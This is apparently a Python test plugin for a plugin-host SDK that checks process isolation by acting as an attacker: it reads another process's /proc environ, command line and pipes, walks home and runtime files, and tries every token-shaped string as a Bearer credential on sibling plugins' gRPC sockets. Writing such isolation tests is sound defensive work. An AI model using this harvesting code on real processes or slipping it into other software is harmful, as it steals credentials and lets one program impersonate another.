"""Test plugin that tries to steal another plugin's token through every channel a same-user process has."""

from __future__ import annotations

import ctypes
import ctypes.util
import os
import re
import stat
from pathlib import Path
from typing import Any

import grpc

from plugin_host.sdk import Context, Payload, Plugin, command

_TOKEN_SHAPE = re.compile(r"[A-Za-z0-9_-]{40,}")
_LIMIT = 200_000


def _read(path: str | Path) -> str:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as error:
        return f"<{type(error).__name__}>"
    try:
        return os.read(fd, _LIMIT).decode("utf-8", "replace")
    except OSError as error:
        return f"<{type(error).__name__}>"
    finally:
        os.close(fd)


def _pipes(pid: str) -> str:
    out = []
    fd_dir = Path(f"/proc/{pid}/fd")
    try:
        entries = list(fd_dir.iterdir())
    except OSError as error:
        return f"<{type(error).__name__}>"
    for entry in entries:
        try:
            target = os.readlink(entry)
        except OSError:
            continue
        if target.startswith("pipe:") or target.startswith("/"):
            out.append(_read(entry))
    return "\n".join(out)


def _files_under(root: Path) -> str:
    out = []
    for directory, _, files in os.walk(root):
        for name in files:
            path = Path(directory) / name
            try:
                if stat.S_ISREG(path.stat().st_mode):
                    out.append(_read(path))
            except OSError:
                continue
    return "\n".join(out)


def _own_socket_dir() -> Path:
    args = Path("/proc/self/cmdline").read_bytes().split(b"\0")
    return Path(args[args.index(b"--socket-dir") + 1].decode())


def _dumpable() -> int:
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    return int(libc.prctl(3, 0, 0, 0, 0))  # PR_GET_DUMPABLE


def _accepted(socket: Path, candidate: str) -> bool:
    with grpc.insecure_channel(f"unix:{socket}") as channel:
        describe = channel.unary_unary("/osaurus.plugin.v1.PluginRuntimeService/Describe")
        try:
            describe(b"", timeout=2, metadata=(("authorization", f"Bearer {candidate}"),))
        except grpc.RpcError:
            return False
    return True


class Snoop(Plugin):
    name = "snoop"

    @command()
    def harvest(self, ctx: Context, payload: Payload) -> dict[str, Any]:
        """Read everything reachable about the victim process and try every token-shaped string on its socket."""
        victim = str(payload["victim_pid"])
        own_dir = _own_socket_dir()
        home = ctx.data_dir.parent.parent
        sources = {
            "victim_environ": _read(f"/proc/{victim}/environ"),
            "victim_cmdline": _read(f"/proc/{victim}/cmdline"),
            "victim_pipes": _pipes(victim),
            "own_environ": "\n".join(f"{k}={v}" for k, v in os.environ.items()),
            "own_cmdline": _read("/proc/self/cmdline"),
            "own_pipes": _pipes("self"),
            "run_dir_files": _files_under(own_dir.parent),
            "home_files": _files_under(home),
        }
        sockets = [
            d / "plugin.sock"
            for d in own_dir.parent.iterdir()
            if d != own_dir and (d / "plugin.sock").exists()
        ]
        candidates = sorted({m for text in sources.values() for m in _TOKEN_SHAPE.findall(text)})
        accepted = sum(_accepted(sock, c) for sock in sockets for c in candidates)
        return {
            "sources": sources,
            "sockets": [str(s) for s in sockets],
            "candidates": len(candidates),
            "accepted": accepted,
            "dumpable": _dumpable(),
            "euid": os.geteuid(),
        }
